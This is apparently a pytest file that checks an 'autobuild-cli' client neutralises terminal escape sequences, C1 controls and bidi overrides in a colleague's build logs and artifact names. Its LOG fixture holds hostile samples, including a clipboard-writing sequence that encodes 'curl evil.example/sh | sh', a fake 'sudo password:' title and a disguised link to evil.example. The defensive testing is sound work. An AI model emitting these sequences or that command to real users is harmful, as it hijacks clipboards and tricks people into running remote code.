"""autobuild-cli run as an engineer runs it (a process, against the app over HTTP) on a
colleague's build whose log, task names and artifact names hold what a terminal obeys: escape
sequences (ESC c resets the terminal, ESC M moves up to overwrite lines, OSC 52 writes the
clipboard, OSC 8 hides where a link goes, an OSC without its end swallows what follows), C1
controls (U+009B is CSI) and bidi overrides. None of it reaches the output; the log keeps its
colours, on a terminal too, and ``--raw`` gives it as written."""

from __future__ import annotations

import os
import pty
import re
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
import uvicorn

import autobuild.web
from autobuild.domain.artifacts import ArtifactInfo, ArtifactList
from tests.web.helpers import page_csrf, submit

CLI = Path(autobuild.web.__file__).parent / "static" / "autobuild-cli"
ACTS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f"
                  r"\ufeff]")
SGR = re.compile(r"\x1b\[[0-9;]*m")
HOSTILE_RECIPE = "busybox\x1bc\x1bM\x1bM\x9b2J\u202e-1.36.1-r0"
LOG = ("NOTE: fetching\n\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvc2ggfCBzaAo=\x07"
       "\x1b]0;sudo password:\x07\x1b]8;;https://evil.example/\x1b\\release notes"
       "\x1b]8;;\x1b\\\n"
       f"ERROR: {HOSTILE_RECIPE} do_compile: oe_runmake failed\n"
       "ERROR: Task (/p/busybox_1.36.1.bb:do_compile) failed with exit code '1'\n"
       "\x1b[1;31mERROR:\x1b[0m the real one\rNOTE: nothing to see\r\n"
       "x\x08\x08y\x1b]52;c;unterminated\nthe end\n")
SHOWN = ("NOTE: fetching\nrelease notes\n"
         "ERROR: busybox?2J?-1.36.1-r0 do_compile: oe_runmake failed\n"
         "ERROR: Task (/p/busybox_1.36.1.bb:do_compile) failed with exit code '1'\n"
         "\x1b[1;31mERROR:\x1b[0m the real one\nNOTE: nothing to see\n"
         "x??y\nthe end\n")


@pytest.fixture
def service(app) -> Iterator[str]:
    """The app on a port of its own, as the engineer's client reaches a service."""
    server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=0, lifespan="off",
                                           log_level="warning"))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    while not server.started and thread.is_alive():
        time.sleep(0.01)
    assert server.started
    port = server.servers[0].sockets[0].getsockname()[1]
    yield f"http://127.0.0.1:{port}"
    server.should_exit = True
    thread.join(10)


@pytest.fixture
def token(alice) -> str:
    page = "/settings/api-tokens"
    response = alice.post(page, data={"name": "cli", "expires_days": "",
                                      "csrf_token": page_csrf(alice, page)})
    assert response.status_code == 201, response.text
    return re.search(r'value="(abt_[A-Za-z0-9_-]{43})"', response.text).group(1)


@pytest.fixture
def colleagues_build(bob, fakes, supervisor, monkeypatch) -> int:
    """bob's failed build: its log, task names and artifact names are bob's to write."""
    assert submit(bob).status_code == 303
    supervisor.tick()
    job_id = max(fakes.files.logs, default=0) + 1
    fakes.files.logs[job_id] = LOG.encode()
    fakes.files.artifacts[job_id] = {"image\u202egpj.wic": b"x", "a\x9b2Jb.ext4": b"y"}
    fakes.runner.finish(job_id, 1)
    supervisor.tick()
    # The service lists plain names only; the client must not rely on it (an older service,
    # or another that does not check): these are listed here as they are.
    listed = ArtifactList(ArtifactInfo(name, len(data), fakes.files.mtime)
                          for name, data in fakes.files.artifacts[job_id].items())
    monkeypatch.setattr(fakes.files, "list_artifacts",
                        lambda job: listed if job.id == job_id else ArtifactList())
    return job_id


@pytest.fixture
def run(service, token, tmp_path):
    env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(tmp_path),
           "AUTOBUILD_URL": service, "AUTOBUILD_TOKEN": token, "LANG": "C.UTF-8"}

    def run(*args: str) -> subprocess.CompletedProcess[str]:
        # Bytes decoded here: text=True would turn every "\r" into "\n" itself.
        result = subprocess.run([sys.executable, str(CLI), *args], env=env, capture_output=True,
                                timeout=60)
        return subprocess.CompletedProcess(result.args, result.returncode,
                                           result.stdout.decode(), result.stderr.decode())

    run.env = env
    return run


def _inert(text: str) -> None:
    assert not ACTS.search(SGR.sub("", text)), repr(text)


def test_status_list_and_artifacts_show_a_colleagues_names_inert(run, colleagues_build):
    for args in (["status", str(colleagues_build)], ["list"],
                 ["artifacts", str(colleagues_build)]):
        result = run(*args)
        assert result.returncode == 0, result.stderr
        _inert(result.stdout)
        _inert(result.stderr)
        assert not SGR.search(result.stdout)
    assert "  failed: busybox?c?M?M?2J?-1.36.1-r0:do_compile" in \
        run("status", str(colleagues_build)).stdout
    listed = run("artifacts", str(colleagues_build)).stdout
    assert "image?gpj.wic  1 B" in listed and "a?2Jb.ext4  1 B" in listed


@pytest.mark.parametrize("command", [["log"], ["follow"], ["log", "--follow"]])
def test_a_colleagues_log_keeps_its_text_and_colours_and_nothing_else(run, colleagues_build,
                                                                      command):
    result = run(*command, str(colleagues_build))
    _inert(result.stdout)
    assert result.stdout == SHOWN
    assert result.returncode == (0 if command == ["log"] else 1), result.stderr
    _inert(result.stderr)


@pytest.mark.parametrize("command", [["log"], ["follow"]])
def test_raw_gives_the_log_as_the_build_wrote_it(run, colleagues_build, command):
    result = subprocess.run([sys.executable, str(CLI), *command, "--raw", str(colleagues_build)],
                            env=run.env, capture_output=True, timeout=60)
    assert result.stdout.decode("utf-8") == LOG


def test_on_a_terminal_the_log_keeps_its_colours_and_nothing_else(run, colleagues_build):
    controller, terminal = pty.openpty()
    try:
        process = subprocess.Popen([sys.executable, str(CLI), "log", str(colleagues_build)],
                                   env=run.env, stdin=subprocess.DEVNULL, stdout=terminal,
                                   stderr=subprocess.PIPE)
        os.close(terminal)
        terminal = -1
        shown = b""
        while True:
            try:
                data = os.read(controller, 65536)
            except OSError:  # EIO: the client has closed the terminal
                break
            if not data:
                break
            shown += data
        assert process.wait(60) == 0, process.stderr.read()
        process.stderr.close()
    finally:
        os.close(controller)
        if terminal >= 0:
            os.close(terminal)
    text = shown.decode("utf-8").replace("\r\n", "\n")  # the terminal's own line ends
    assert "\x1b[1;31mERROR:\x1b[0m the real one\n" in text
    assert text == SHOWN
